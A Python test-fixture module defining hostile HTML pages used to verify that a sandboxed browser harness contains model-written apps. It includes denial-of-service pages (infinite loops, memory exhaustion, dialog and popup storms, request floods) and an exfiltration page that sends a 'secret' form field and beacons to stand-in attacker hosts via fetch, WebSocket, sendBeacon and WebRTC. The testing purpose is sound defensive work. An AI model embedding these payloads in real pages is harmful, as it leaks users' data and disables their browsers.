"""A corpus of hostile apps: what a model-written page can do to the harness, on purpose or not.

Each app is a small single-file page of our own with one control at a fixed position (so a
scripted click can aim at it) and the outcome a contained harness must show: how the rollout
ends and what the blocked-request log must contain. The tests live in `test_hostile_apps.py`.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY = "__CANARY__"  # replaced by host:port of a local listener that must never hear from the app
BUTTON = (80, 40)  # every app's button: 120×40 at (20,20)
_BUTTON_STYLE = "position:absolute;left:20px;top:20px;width:120px;height:40px"

# A tiny normal app: the "next rollout on the same worker" that proves the browser recovered.
TINY = f"""<!doctype html><body style="margin:0">
<button id="go" style="{_BUTTON_STYLE}">Go</button><span id="n" style="position:absolute;left:200px;top:30px">0</span>
<script>document.getElementById('go').onclick = () => {{ const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1); }};</script>
</body>"""
TINY_CHECKER = "return document.querySelector('#n')?.textContent === '1';"

# The counter most hostile apps carry, so that a contained app can still be operated.
_COUNTER = f"""<button id="go" style="{_BUTTON_STYLE}">Go</button>
<span id="n" style="position:absolute;left:200px;top:30px">0</span>"""
_COUNT_ON_CLICK = "document.getElementById('go').onclick = () => { const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1); };"
COUNTER_CHECKER = "return Number(document.querySelector('#n')?.textContent) >= 1;"


@dataclass(frozen=True)
class HostileApp:
    """One hostile page and what a contained rollout on it must show."""

    name: str
    html: str
    termination: str  # the TerminationReason value the rollout must end with
    checker: str = COUNTER_CHECKER
    clicks: tuple[tuple[float, float], ...] = (BUTTON,)  # scripted clicks (the script then says `finished`)
    # (method, resource_type or None, url prefix) every one of which must be in blocked_requests
    must_block: tuple[tuple[str, str | None, str], ...] = ()
    min_dialogs: int = 0
    dialog_kinds: tuple[str, ...] = ()  # kinds that must appear among the answered dialogs
    min_popups: int = 0
    page_error: str | None = None  # a substring some page_errors entry must contain
    step_timeout_s: float = 10.0
    episode_timeout_s: float = 25.0

    def html_for(self, canary: str) -> str:
        """The page, its local canary address (`127.0.0.1:port`, standing in for the internet) filled in."""
        return self.html.replace(CANARY, canary)


LOOP_AT_LOAD = HostileApp(
    "loop_at_load",
    f"<!doctype html><body style='margin:0'>{_COUNTER}<script>while (true) {{}}</script></body>",
    termination="timeout",
    # What is tested is that the episode limit ends a page that never loads, not how long the limit is: each second
    # of it is a second of a core spinning (the suite is CPU-bound on 2 cores).
    episode_timeout_s=10.0,
)

LOOP_ON_CLICK = HostileApp(
    "loop_on_click",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>document.getElementById('go').onclick = () => {{ while (true) {{}} }};</script></body>""",
    termination="timeout",
    step_timeout_s=5.0,  # the step limit ends the spinning click (shorter than the others': the loop spins a core)
)

# Asks and asks: ten rounds of alert / confirm / prompt while loading, ten more on every click
# before the click does its work (an endless storm only blocks input; the step limits end that).
DIALOG_STORM = HostileApp(
    "dialog_storm",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>
  const storm = (tag) => {{ for (let i = 0; i < 10; i++) {{ alert(tag + i); confirm(tag + i); prompt(tag + i); }} }};
  storm('load ');
  document.getElementById('go').onclick = () => {{
    storm('click ');
    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
  }};
</script></body>""",
    termination="success",
    min_dialogs=60,
    dialog_kinds=("alert", "confirm", "prompt"),
)

# Asks before every unload. The agent leaves (a same-origin link): the "leave site?" dialog is
# answered, the app reloads, and closing the context does not wait for an answer.
LEAVE_LINK = (80, 120)
BEFOREUNLOAD_TRAP = HostileApp(
    "beforeunload_trap",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<a id="leave" href="index.html?again" style="position:absolute;left:20px;top:100px;width:120px;height:40px;display:block">Leave</a>
<script>
  {_COUNT_ON_CLICK}
  window.addEventListener('beforeunload', e => {{ e.preventDefault(); e.returnValue = 'Stay!'; return 'Stay!'; }});
  window.onbeforeunload = () => 'Are you sure you want to leave?';
  // (An endless loop in pagehide/unload would hang the navigation itself: that is loop_on_click.)
</script></body>""",
    termination="success",
    clicks=(LEAVE_LINK, BUTTON),
    dialog_kinds=("beforeunload",),
)

# Leaves for an external host as soon as it loads, and again on the click. (One navigation at a
# time: a second one started before the first reaches the network cancels it, request and all.)
EXTERNAL_REDIRECT = HostileApp(
    "external_redirect",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>
  location.replace('https://evil.example/landing?from=app');
  document.getElementById('go').onclick = () => {{
    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
    window.location = 'http://203.0.113.7/second?count=' + n.textContent;
  }};
</script></body>""",
    termination="success",
    must_block=(("GET", "document", "https://evil.example/landing"), ("GET", "document", "http://203.0.113.7/second")),
)

POPUP_STORM = HostileApp(
    "popup_storm",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>
  for (let i = 0; i < 15; i++) window.open('https://ads.example/' + i, '_blank');
  const opened = window.open('about:blank');
  if (opened) opened.document.write('<h1>Buy now!</h1><img src="https://ads.example/banner.png">');
  document.getElementById('go').onclick = () => {{
    for (let i = 0; i < 5; i++) window.open('https://ads.example/click' + i);
    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
  }};
</script></body>""",
    termination="success",
    min_popups=16,
    must_block=(("GET", "document", "https://ads.example/0"),),
)

# Phones home every way a page can; the click leaves for an external host with the data.
NETWORK_EXFILTRATION = HostileApp(
    "network_exfiltration",
    f"""<!doctype html><head>
<link rel="stylesheet" href="https://css.evil.example/theme.css">
<link rel="prefetch" href="https://prefetch.evil.example/next">
</head><body style="margin:0">{_COUNTER}
<img src="https://img.evil.example/pixel.gif" width="1" height="1">
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="post" action="https://form.evil.example/collect" target="sink"><input name="secret" value="s3"></form>
<script>
  fetch('https://fetch.evil.example/data', {{method: 'POST', body: 'x=1'}}).catch(() => {{}});
  const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://xhr.evil.example/data'); xhr.onerror = () => {{}}; xhr.send();
  try {{ const ws = new WebSocket('wss://ws.evil.example/socket'); ws.onerror = () => {{}}; }} catch (e) {{}}
  try {{ navigator.sendBeacon('https://beacon.evil.example/b', 'x'); }} catch (e) {{}}
  try {{ new EventSource('https://sse.evil.example/stream'); }} catch (e) {{}}
  new Image().src = 'http://198.51.100.9/raw-ip.gif';
  document.getElementById('f').submit();
  // The same, aimed at a listener on this machine that is not the app's origin.
  fetch('http://__CANARY__/fetch').catch(() => {{}});
  new Image().src = 'http://__CANARY__/pixel.gif';
  try {{ new WebSocket('ws://__CANARY__/socket').onerror = () => {{}}; }} catch (e) {{}}
  try {{ navigator.sendBeacon('http://__CANARY__/beacon', 'x'); }} catch (e) {{}}
  // WebRTC opens its own sockets, which request interception never sees.
  try {{
    const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:__CANARY__'}},
      {{urls: 'turn:__CANARY__?transport=tcp', username: 'u', credential: 'p'}},
      {{urls: 'turn:__CANARY__?transport=udp', username: 'u', credential: 'p'}}]}});
    pc.createDataChannel('exfiltrate');
    pc.createOffer().then(offer => pc.setLocalDescription(offer));
  }} catch (e) {{}}
  document.getElementById('go').onclick = () => {{
    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
    location.href = 'https://redirect.evil.example/steal?count=' + n.textContent;
  }};
</script></body>""",
    termination="success",
    must_block=(
        ("POST", "fetch", "https://fetch.evil.example/data"),
        ("GET", "xhr", "https://xhr.evil.example/data"),
        ("GET", "image", "https://img.evil.example/pixel.gif"),
        ("GET", "image", "http://198.51.100.9/raw-ip.gif"),
        ("WEBSOCKET", "websocket", "wss://ws.evil.example/socket"),
        ("POST", "document", "https://form.evil.example/collect"),
        ("GET", "document", "https://redirect.evil.example/steal"),
        ("GET", "stylesheet", "https://css.evil.example/theme.css"),
        ("POST", None, "https://beacon.evil.example/b"),
        ("GET", None, "https://sse.evil.example/stream"),
        ("GET", "fetch", "http://__CANARY__/fetch"),
        ("WEBSOCKET", "websocket", "ws://__CANARY__/socket"),
    ),
)

HUGE_DOM = HostileApp(
    "huge_dom",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<div id="big" style="position:absolute;top:100px;left:0;width:1200px;height:560px;overflow:auto"></div>
<script>
  {_COUNT_ON_CLICK}
  const big = document.getElementById('big');
  const chunk = document.createDocumentFragment();
  for (let i = 0; i < 100000; i++) {{ const s = document.createElement('span'); s.textContent = i + ' '; chunk.appendChild(s); }}
  big.appendChild(chunk);
</script></body>""",
    termination="success",
)

# Allocates until V8 gives up: the renderer dies with an out-of-memory crash.
MEMORY_HOG = HostileApp(
    "memory_hog",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>
  {_COUNT_ON_CLICK}
  const hoard = [];
  document.getElementById('go').onclick = () => {{
    for (let i = 0; ; i++) hoard.push(new Array(1 << 22).fill(i + 0.5));
  }};
</script></body>""",
    termination="error",
    page_error="crash",
    # Reaching the renderer's 1 GB heap cap takes seconds of allocation on a loaded machine.
    step_timeout_s=40.0,
    episode_timeout_s=45.0,
)

# Renders the whole UI from state into a brand-new <body> on every animation frame. It counts
# presses (mousedown), not clicks: a click needs the press and the release on one element, and a
# frame between the two (likely on a loaded machine) swaps the element, so no click event fires.
BODY_SWAP = HostileApp(
    "body_swap",
    f"""<!doctype html><body style="margin:0"><script>
  let count = 0;
  document.addEventListener('mousedown', e => {{ if (e.target && e.target.id === 'go') count += 1; }});
  const render = () => {{
    const body = document.createElement('body');
    body.style.margin = '0';
    body.innerHTML = `{_COUNTER}`.replace('>0<', '>' + count + '<');
    document.body = body;
    requestAnimationFrame(render);
  }};
  render();
</script></body>""",
    termination="success",
)

# Bursts of requests and errors past the logs' caps, then a steady trickle: the logs are capped
# (counted, not listed), the trajectory stays small.
REQUEST_FLOOD = HostileApp(
    "request_flood",
    f"""<!doctype html><body style="margin:0">{_COUNTER}
<script>
  {_COUNT_ON_CLICK}
  let i = 0;
  const send = () => {{ i += 1; fetch('https://flood.evil.example/' + i).catch(() => {{}}); }};
  for (let k = 0; k < 400; k++) {{ send(); setTimeout(() => {{ throw new Error('burst ' + k); }}, 0); }}
  setInterval(() => {{ send(); throw new Error('tick ' + i); }}, 100);
</script></body>""",
    termination="success",
    must_block=(("GET", "fetch", "https://flood.evil.example/1"),),
)

HOSTILE_APPS: list[HostileApp] = [
    LOOP_AT_LOAD,
    LOOP_ON_CLICK,
    DIALOG_STORM,
    BEFOREUNLOAD_TRAP,
    EXTERNAL_REDIRECT,
    POPUP_STORM,
    NETWORK_EXFILTRATION,
    HUGE_DOM,
    MEMORY_HOG,
    BODY_SWAP,
    REQUEST_FLOOD,
]
